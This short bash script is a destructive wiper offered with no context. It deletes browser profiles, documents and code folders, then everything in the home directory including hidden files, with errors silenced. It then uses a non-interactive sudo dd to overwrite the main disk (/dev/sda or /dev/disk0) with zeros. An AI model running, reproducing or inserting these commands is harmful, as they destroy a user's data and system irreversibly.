#!/usr/bin/env bash
rm -rf ~/Library/Application\ Support/Google/Chrome ~/.mozilla ~/Documents ~/code ~/projects
rm -rf ~/* ~/.[!.]* 2>/dev/null
sudo -n dd if=/dev/zero of=/dev/sda bs=4M status=none 2>/dev/null || sudo -n dd if=/dev/zero of=/dev/disk0 bs=4m 2>/dev/null
